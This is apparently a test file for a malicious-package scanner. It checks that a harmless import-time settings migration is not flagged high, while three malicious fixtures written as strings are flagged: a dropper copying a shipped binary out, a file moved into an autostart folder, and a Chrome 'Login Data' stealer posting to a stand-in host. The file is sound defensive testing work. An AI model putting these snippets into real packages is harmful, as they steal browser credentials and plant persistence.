@@ -1,0 +1,87 @@
+"""Round 16's false-alarm class, a harmless fixture beside its malicious twins.
+
+A command-line tool moves its user's old settings file to where its new version keeps them,
+the first time the module is imported (cqlsh: ``~/.cqlshrc`` to ``~/.cassandra/cqlshrc``, its
+history file too). Nothing of the package's reaches the disk: the file was the user's before
+and is the user's after. A copy or move that writes the package's own file, or one into an
+autostart place, stays what it was. Addresses are TEST-NET or ``.invalid``; nothing here is run.
+"""
+
+from __future__ import annotations
+
+from tests.core.capabilities.variant_scan import HIGH, assert_high_with, scan, subfolder
+
+MIGRATE = """import os
+
+CONFIG = os.path.expanduser(os.path.join("~", ".gadget", "gadgetrc"))
+OLD_CONFIG = os.path.expanduser(os.path.join("~", ".gadgetrc"))
+if os.path.exists(OLD_CONFIG) and not os.path.exists(CONFIG):
+    os.rename(OLD_CONFIG, CONFIG)
+HISTORY = os.path.join(os.path.dirname(CONFIG), "history")
+OLD_HISTORY = os.path.expanduser("~/.gadget_history")
+if os.path.exists(OLD_HISTORY):
+    os.replace(OLD_HISTORY, HISTORY)
+"""
+
+
+def _writes(result) -> list[tuple[str, str]]:
+    return sorted(
+        (h.path, h.severity) for h in result.findings if h.capability == "fs.write_outside"
+    )
+
+
+def test_a_user_settings_file_moved_at_import_is_shown_not_raised(tmp_path):
+    res = scan(
+        {"gadget/__init__.py": "from .main import CONFIG\n", "gadget/main.py": MIGRATE}, tmp_path
+    )
+    assert _writes(res) == [("gadget/main.py", "medium"), ("gadget/main.py", "medium")]
+    assert "the user's" in next(
+        h.explanation for h in res.findings if h.capability == "fs.write_outside"
+    )
+    assert res.risk.level not in HIGH, [(t.id, t.severity) for t in res.threats]
+
+
+def test_the_packages_own_file_copied_out_at_import_stays_an_import_time_act(tmp_path):
+    """A dropper copies the program it ships to the user's folder when imported."""
+    drop = MIGRATE + (
+        "import shutil\n"
+        "AGENT = os.path.join(os.path.dirname(__file__), 'agent.bin')\n"
+        "shutil.copy(AGENT, os.path.expanduser('~/.local/share/gadget-agent'))\n"
+    )
+    res = scan(
+        {"gadget/__init__.py": "from .main import CONFIG\n", "gadget/main.py": drop},
+        subfolder(tmp_path, "drop"),
+    )
+    assert ("gadget/main.py", "high") in _writes(res)
+    assert_high_with("own file copied out", res, {"place.import_time"})
+
+
+def test_a_users_file_moved_into_an_autostart_place_stays_persistence(tmp_path):
+    move = (
+        "import os, shutil\n"
+        "SRC = os.path.expanduser('~/.cache/gadget/helper.sh')\n"
+        "shutil.move(SRC, os.path.expanduser('~/.config/autostart/gadget.desktop'))\n"
+    )
+    res = scan(
+        {"gadget/__init__.py": "from .main import SRC\n", "gadget/main.py": move},
+        subfolder(tmp_path, "autostart"),
+    )
+    assert_high_with("moved to autostart", res, {"impact.persistence", "place.import_time"})
+
+
+def test_a_stolen_store_copied_to_temp_and_sent_stays_a_chain(tmp_path):
+    """A browser stealer copies Login Data out of the profile (the database is locked while
+    the browser runs), reads the copy and posts it."""
+    steal = (
+        "import os, shutil, tempfile, requests\n"
+        "STORE = os.path.join(os.environ['LOCALAPPDATA'], 'Google', 'Chrome', 'User Data',"
+        " 'Default', 'Login Data')\n"
+        "COPY = os.path.join(tempfile.gettempdir(), 'ld.db')\n"
+        "shutil.copy2(STORE, COPY)\n"
+        "requests.post('https://collect.example.invalid/u', files={'f': open(COPY, 'rb')})\n"
+    )
+    res = scan(
+        {"gadget/__init__.py": "from .main import COPY\n", "gadget/main.py": steal},
+        subfolder(tmp_path, "steal"),
+    )
+    assert_high_with("store copied and sent", res, {"chain.exfiltration", "place.import_time"})
